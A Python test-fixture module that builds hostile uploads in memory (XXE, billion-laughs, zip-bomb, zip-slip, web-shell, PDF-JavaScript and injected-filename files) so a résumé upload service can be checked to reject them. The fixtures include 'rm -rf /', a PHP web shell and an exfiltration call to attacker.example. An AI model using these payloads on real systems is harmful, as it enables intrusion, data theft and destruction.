"""Real documents and the upload attack corpus, built in memory by the tests.

Every file is made here from scratch (reportlab, python-docx, zipfile), so the repository holds
no malicious bytes; even the EICAR test string is assembled at run time.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field

RESUME_TEXT = "Ada Lovelace. Analytical engine programmer. ada@example.com"


def make_pdf(text: str = RESUME_TEXT) -> bytes:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas

    buffer = io.BytesIO()
    pdf = canvas.Canvas(buffer, pagesize=A4)
    pdf.drawString(72, 770, text)
    pdf.showPage()
    pdf.save()
    return buffer.getvalue()


def make_docx(text: str = RESUME_TEXT) -> bytes:
    import docx

    document = docx.Document()
    document.add_heading("Resume", level=1)
    document.add_paragraph(text)
    buffer = io.BytesIO()
    document.save(buffer)
    return buffer.getvalue()


def make_pdf_with_stream(data: bytes, *, catalog: bytes = b"") -> bytes:
    """A minimal valid one-page PDF whose page content is the raw, unfiltered `data`."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %s>>" % catalog,
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(data) + data + b"\nendstream",
    ]
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        xref,
    )
    return bytes(out)


def rezip(
    data: bytes,
    *,
    drop: tuple[str, ...] = (),
    replace: dict[str, bytes] | None = None,
    add: list[tuple[zipfile.ZipInfo | str, bytes]] | None = None,
) -> bytes:
    """A copy of the zip `data` with entries dropped, replaced or added."""
    replace = replace or {}
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename in drop:
                continue
            target.writestr(info.filename, replace.get(info.filename, source.read(info)))
        for entry, content in add or []:
            target.writestr(entry, content)
    return out.getvalue()


def eicar() -> bytes:
    # The standard antivirus test file, assembled so that this source file does not match it.
    parts = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS", "-TEST-FILE!$H+H*"]
    return "".join(parts).encode("ascii")


def _exe() -> bytes:
    header = bytearray(b"MZ" + b"\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00")
    header += b"\x00" * (0x3C - len(header)) + b"\x80\x00\x00\x00"
    header += b"\x00" * (0x80 - len(header)) + b"PE\x00\x00" + b"\x4c\x01" + b"\x00" * 200
    return bytes(header)


def _small_zip(name: str = "shell.php", content: bytes = b"<?php system($_GET['c']); ?>"):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, content)
    return out.getvalue()


def _pdf_zip_polyglot() -> bytes:
    return make_pdf() + _small_zip()


def _html_with_pdf_header() -> bytes:
    return b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n"


def _docx_zip_bomb() -> bytes:
    """A real DOCX plus one entry of 64 MB of zeros that deflates to about 64 KB."""
    out = io.BytesIO(rezip(make_docx()))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("word/media/image1.png", "w", force_zip64=True) as entry:
            zeros = b"\0" * (1024 * 1024)
            for _ in range(64):
                entry.write(zeros)
    return out.getvalue()


def _docx_zip_slip() -> bytes:
    return rezip(make_docx(), add=[("../../evil.sh", b"#!/bin/sh\nrm -rf /\n")])


def _docx_absolute_path() -> bytes:
    return rezip(make_docx(), add=[("/etc/cron.d/evil", b"* * * * * root id\n")])


def _docx_backslash_path() -> bytes:
    return rezip(make_docx(), add=[("..\\..\\evil.bat", b"del C:\\*\n")])


def _docx_symlink() -> bytes:
    link = zipfile.ZipInfo("word/media/link.png")
    link.create_system = 3  # Unix, so the mode bits below mean what they say
    link.external_attr = (0o120777 << 16) | 0x20
    return rezip(make_docx(), add=[(link, b"/etc/passwd")])


_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
    + b"".join(
        b'<!ENTITY lol%d "%s">\n' % (n, (b"&lol%d;" % (n - 1) if n > 1 else b"&lol;") * 10)
        for n in range(1, 10)
    )
    + b"]>\n"
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b"<w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
)


def _docx_billion_laughs() -> bytes:
    return rezip(make_docx(), replace={"word/document.xml": _LAUGHS})


def _docx_xxe_content_types() -> bytes:
    source = make_docx()
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        content_types = archive.read("[Content_Types].xml")
    declaration, _, rest = content_types.partition(b"?>")
    evil = (
        declaration
        + b'?>\n<!DOCTYPE Types [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        + rest.replace(b"</Types>", b"<!-- &xxe; --></Types>")
    )
    return rezip(source, replace={"[Content_Types].xml": evil})


def _docx_dtd_in_declared_xml_part() -> bytes:
    """A DTD in a part whose name does not end in .xml, but which the package calls XML."""
    source = make_docx()
    with zipfile.ZipFile(io.BytesIO(source)) as archive:
        content_types = archive.read("[Content_Types].xml")
    override = (
        b'<Override PartName="/word/custom.dat" '
        b'ContentType="application/vnd.example.custom+xml"/></Types>'
    )
    return rezip(
        source,
        replace={"[Content_Types].xml": content_types.replace(b"</Types>", override)},
        add=[("word/custom.dat", _LAUGHS)],
    )


def _docx_missing_document() -> bytes:
    return rezip(make_docx(), drop=("word/document.xml",))


def _docx_with_macros() -> bytes:
    return rezip(make_docx(), add=[("word/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"\0" * 512)])


def _docx_many_entries() -> bytes:
    return rezip(make_docx(), add=[(f"customXml/extra{n}.xml", b"<a/>") for n in range(40)])


def _docx_pdf_header() -> bytes:
    """A zip whose first, stored entry puts `%PDF-` in the first KB: PDF readers take it."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.pdf", b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF\n", zipfile.ZIP_STORED)
        with zipfile.ZipFile(io.BytesIO(make_docx())) as source:
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info))
    return out.getvalue()


def _pdf_with_javascript() -> bytes:
    from pypdf import PdfWriter
    from pypdf.actions import JavaScript

    writer = PdfWriter(clone_from=io.BytesIO(make_pdf()))
    writer.add_open_action(
        JavaScript("app.launchURL('https://attacker.example/?c=' + this.info.Title, true);")
    )
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_with_escaped_javascript() -> bytes:
    # `#61` is "a": readers see /JavaScript, a byte search for it does not.
    return make_pdf_with_stream(
        b"BT ET", catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "
    )


def _pdf_with_attachment() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(make_pdf()))
    writer.add_attachment("invoice.exe", _exe())
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _pdf_encrypted() -> bytes:
    from pypdf import PdfWriter

    writer = PdfWriter(clone_from=io.BytesIO(make_pdf()))
    writer.encrypt(user_password="secret", owner_password="owner", algorithm="RC4-128")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


_SVG = (
    b'<?xml version="1.0" standalone="no"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>fetch('/api/v1/users/me').then(r => r.text()).then(alert)</script></svg>"
)
_HTML = b"<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n"


@dataclass(frozen=True)
class AttackFile:
    """One hostile upload and how it must be turned away.

    `transport` is "http" (the real view, through Django's multipart parser) or "service" for
    names Django's parser would already have cleaned (it drops non-printable characters), so
    only callers that bypass it (the API, imports, the admin) can deliver them to the service.
    """

    id: str
    name: str
    build: Callable[[], bytes]
    code: str
    status: int = 400
    settings: dict = field(default_factory=dict)
    files: int = 1
    transport: str = "http"
    needs_clamd: bool = False


CORPUS: tuple[AttackFile, ...] = (
    AttackFile("exe-renamed-pdf", "resume.pdf", _exe, "type_mismatch"),
    AttackFile("exe-renamed-docx", "resume.docx", _exe, "type_mismatch"),
    AttackFile("double-extension-pdf-php", "resume.pdf.php", make_pdf, "dangerous_extension"),
    AttackFile("double-extension-php-pdf", "resume.php.pdf", make_pdf, "dangerous_extension"),
    AttackFile("double-extension-docx-exe", "cv.docx.exe", make_docx, "dangerous_extension"),
    AttackFile(
        "null-byte-in-name", "resume.php\x00.pdf", make_pdf, "invalid_filename", transport="service"
    ),
    AttackFile(
        "crlf-in-name",
        'cv.pdf"\r\nContent-Type: text/html\r\n\r\n.pdf',
        make_pdf,
        "invalid_filename",
        transport="service",
    ),
    AttackFile("rtl-override-name", "cv\u202efdp.exe", make_pdf, "dangerous_extension"),
    AttackFile("pdf-zip-polyglot", "resume.pdf", _pdf_zip_polyglot, "polyglot"),
    AttackFile("zip-with-pdf-header", "resume.docx", _docx_pdf_header, "polyglot"),
    AttackFile("html-with-pdf-header", "resume.pdf", _html_with_pdf_header, "invalid_pdf"),
    AttackFile("pdf-with-javascript", "resume.pdf", _pdf_with_javascript, "pdf_active_content"),
    AttackFile(
        "pdf-with-escaped-javascript",
        "resume.pdf",
        _pdf_with_escaped_javascript,
        "pdf_active_content",
    ),
    AttackFile("pdf-with-attachment", "resume.pdf", _pdf_with_attachment, "pdf_active_content"),
    AttackFile("pdf-encrypted", "resume.pdf", _pdf_encrypted, "pdf_encrypted"),
    AttackFile("pdf-named-txt", "resume.txt", make_pdf, "type_mismatch"),
    AttackFile("docx-zip-bomb", "resume.docx", _docx_zip_bomb, "docx_zip_bomb"),
    AttackFile("docx-zip-slip", "resume.docx", _docx_zip_slip, "docx_unsafe_path"),
    AttackFile("docx-absolute-path", "resume.docx", _docx_absolute_path, "docx_unsafe_path"),
    AttackFile("docx-backslash-path", "resume.docx", _docx_backslash_path, "docx_unsafe_path"),
    AttackFile("docx-symlink", "resume.docx", _docx_symlink, "docx_symlink"),
    AttackFile("docx-billion-laughs", "resume.docx", _docx_billion_laughs, "docx_xml_dtd"),
    AttackFile("docx-xxe", "resume.docx", _docx_xxe_content_types, "docx_xml_dtd"),
    AttackFile(
        "docx-dtd-in-declared-xml-part",
        "resume.docx",
        _docx_dtd_in_declared_xml_part,
        "docx_xml_dtd",
    ),
    AttackFile("docx-missing-document", "resume.docx", _docx_missing_document, "docx_missing_part"),
    AttackFile("docx-with-macros", "resume.docx", _docx_with_macros, "docx_macros"),
    AttackFile(
        "docx-too-many-entries",
        "resume.docx",
        _docx_many_entries,
        "docx_too_many_entries",
        settings={"UPLOAD_DOCX_MAX_ENTRIES": 30},
    ),
    AttackFile("svg-with-script", "photo.svg", lambda: _SVG, "dangerous_extension"),
    AttackFile("svg-named-txt", "resume.txt", lambda: _SVG, "text_markup"),
    AttackFile("html-named-txt", "resume.txt", lambda: _HTML, "text_markup"),
    AttackFile(
        "text-with-nul-bytes", "notes.txt", lambda: b"skills\x00python\x00", "text_nul_bytes"
    ),
    AttackFile("empty-file", "resume.txt", lambda: b"", "file_empty"),
    AttackFile(
        "one-byte-over-limit",
        "notes.txt",
        lambda: b"a" * 4097,
        "file_too_large",
        status=413,
        settings={"UPLOAD_MAX_BYTES": 4096},
    ),
    AttackFile(
        "too-many-files",
        "resume.txt",
        lambda: b"plain text resume",
        "too_many_files",
        settings={"DATA_UPLOAD_MAX_NUMBER_FILES": 2},
        files=3,
    ),
    AttackFile(
        "over-quota",
        "resume.pdf",
        make_pdf,
        "quota_exceeded",
        status=413,
        settings={"UPLOAD_QUOTA_BYTES": 100},
    ),
    AttackFile("eicar", "eicar.txt", eicar, "virus_found", needs_clamd=True),
)
